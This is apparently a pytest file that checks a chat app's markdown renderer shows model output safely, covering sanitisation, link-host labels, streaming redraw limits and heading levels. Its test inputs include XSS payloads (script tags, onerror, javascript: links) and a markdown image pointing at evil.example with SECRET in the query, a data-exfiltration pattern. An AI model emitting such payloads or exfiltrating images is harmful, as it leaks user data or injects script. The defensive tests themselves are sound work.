"""What a model writes is shown safely, and the same however it came."""

import random
import re

import pytest

from chatapp.markdown import Blocks, render


@pytest.mark.parametrize(
    ("text", "never"),
    [
        ("<script>alert(1)</script>", "<script"),
        ("<img src=x onerror=alert(1)>", "<img"),
        ("![x](https://evil.example/?d=SECRET)", "<img"),
        ("[x](javascript:alert(1))", "href"),
        ("[x](data:text/html;base64,xx)", "href"),
        ("[x](vbscript:x)", "href"),
        ("[x](/t/acme/memory/)", "href"),
        ("[x](//evil.example)", "href"),
        ("<https://a.example/<b>", "<b>"),
        ("| a |\n|---|\n| <b onclick=x>1</b> |", "<b"),
        ("```<script>\nx\n```", "<script"),
        ('```py" onload="x\nx\n```', "onload"),
        ("    <iframe src=x>", "<iframe"),
        ("<div style='position:fixed'>x</div>", "<div"),
    ],
)
def test_no_text_becomes_markup_of_its_own(text: str, never: str) -> None:
    assert never not in render(text)


def test_a_picture_is_a_link_that_says_where_it_leads() -> None:
    html = render("![chart](https://evil.example/?d=SECRET)")
    assert 'href="https://evil.example/?d=SECRET"' in html
    assert "(evil.example)" in html


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("[docs](https://docs.example/a)", "(docs.example)"),
        ("[bank.example](https://evil.example)", "(evil.example)"),
        ("[https://bank.example](https://evil.example)", "(evil.example)"),
        ("[bank.example.evil.example](https://bank.example)", "(bank.example)"),
        ("[x](https://bank.example@evil.example/)", "(evil.example)"),
        ("[write](mailto:ada@example.org)", "(ada@example.org)"),
    ],
)
def test_a_link_names_its_host_where_its_words_do_not(text: str, shown: str) -> None:
    assert shown in render(text)


@pytest.mark.parametrize(
    "text",
    [
        "https://docs.example/a?b=c",
        "<https://docs.example>",
        "[docs.example](https://docs.example/a)",
    ],
)
def test_a_link_that_is_its_own_address_is_left_alone(text: str) -> None:
    assert "link-host" not in render(text)


def test_links_open_elsewhere_and_tell_nobody() -> None:
    html = render("https://docs.example")
    assert 'target="_blank"' in html
    assert 'rel="noopener noreferrer nofollow"' in html


def test_code_is_coloured_by_classes_only() -> None:
    html = render("```python\ndef f(): return 1\n```")
    assert '<code class="language-python">' in html
    assert '<span class="hl-k">def</span>' in html
    assert "style=" not in html


def test_code_of_no_known_language_is_shown_as_it_is() -> None:
    assert render("```nonsense\na < b\n```") == (
        '<pre><code class="language-nonsense">a &lt; b\n</code></pre>\n'
    )


def test_tables_tasks_and_strikethrough() -> None:
    html = render("| a | b |\n|---|--:|\n| 1 | 2 |\n\n- [x] done\n- [ ] open\n\n~~old~~")
    assert '<td class="right">2</td>' in html
    assert html.count('type="checkbox"') == 2
    assert html.count("checked=") == 1
    assert "<s>old</s>" in html


PIECES = [
    *(
        "- a",
        "  b",
        "1. x",
        "# h",
        "### h",
        "##### h",
        "#",
        "---",
        "===",
        "> q",
        "```",
        "```py",
        "    code",
        "",
    ),
    *("text *it*", "a | b", "--- | ---", "| 1 | 2 |", "", "", "[x]: http://a.example", "~~~"),
    *("\t- t", "+ [ ] z", "    - deep", "<div>", "***", "`a", "b`", "-", "1)", "&amp; \\* x"),
    *("http://c.example/e_f_g", "[l](http://a.example 'x')", "[x]", "naïve 日本語 👩‍👩‍👧"),
]


@pytest.mark.parametrize("seed", range(20))
def test_pieces_together_are_the_whole(seed: int) -> None:
    chance = random.Random(seed)
    for _ in range(40):
        text = "\n".join(chance.choice(PIECES) for _ in range(chance.randint(1, 14)))
        blocks, closed, now, place = Blocks(), "", 0.0, 0
        while place < len(text):
            size = chance.randint(1, 7)
            finished, _open = blocks.feed(text[place : place + size], now)
            closed += finished
            place += size
            now += chance.choice([0, 0.1, 0.3])
            assert blocks.closed == closed
        closed += blocks.draw()
        assert closed + blocks.open == render(text)


def test_the_open_block_is_drawn_at_most_five_times_a_second() -> None:
    blocks = Blocks()
    drawn = [blocks.feed("word ", number * 0.05)[1] for number in range(21)]
    assert drawn[0] == "<p>word </p>\n".replace(" </p>", "</p>")
    assert sum(html is not None for html in drawn) <= 6


def test_a_long_open_block_is_drawn_less_often() -> None:
    blocks = Blocks()
    blocks.feed("```\n" + "x" * 80_000, 0.0)
    assert blocks.feed("y", 1.0)[1] is None
    assert blocks.feed("z", 2.5)[1] is not None


def test_what_a_late_page_is_shown_finishes_nothing() -> None:
    blocks = Blocks()
    blocks.feed("one\n\n", 0.0)
    blocks.feed("two\n\nthree\n", 0.1)
    assert "two" in blocks.now()
    assert blocks.closed == ""
    finished, drawn = blocks.feed("", 1.0)
    assert re.findall(r"<p>(\w+)</p>", finished) == ["one", "two"]
    assert drawn == "<p>three</p>\n"


def test_headings_begin_below_the_pages_own() -> None:
    html = render("# One\n\n## Two\n\n### Three\n\n#### Four\n\nSix\n===\n")
    assert re.findall(r"<(h\d)>(\w+)</\1>", html) == [
        *(("h3", "One"), ("h4", "Two"), ("h5", "Three"), ("h6", "Four"), ("h3", "Six"))
    ]


@pytest.mark.parametrize(
    ("marks", "levels"),
    [
        ("### ### #### ###", "3 3 4 3"),
        ("# ### ## ####", "3 4 4 5"),
        ("### ## #", "3 3 3"),
        ("###### # ## ### #### ##### ######", "3 3 4 5 6 6 6"),
    ],
)
def test_the_outline_of_a_reply_begins_below_its_own_heading_and_skips_no_level(
    marks: str, levels: str
) -> None:
    text = "\n\n".join(f"{mark} Title" for mark in marks.split())
    assert re.findall(r"<h(\d)>", render(text)) == levels.split()


def test_a_block_that_is_hard_to_draw_is_drawn_seldom(monkeypatch: pytest.MonkeyPatch) -> None:
    clock = iter(range(100))  # each drawing takes a second
    monkeypatch.setattr("chatapp.markdown.time.thread_time", lambda: next(clock))
    blocks = Blocks()
    drawn = [blocks.feed("[", now)[1] is not None for now in (0, 1, 49, 51)]
    assert drawn == [True, False, False, True]
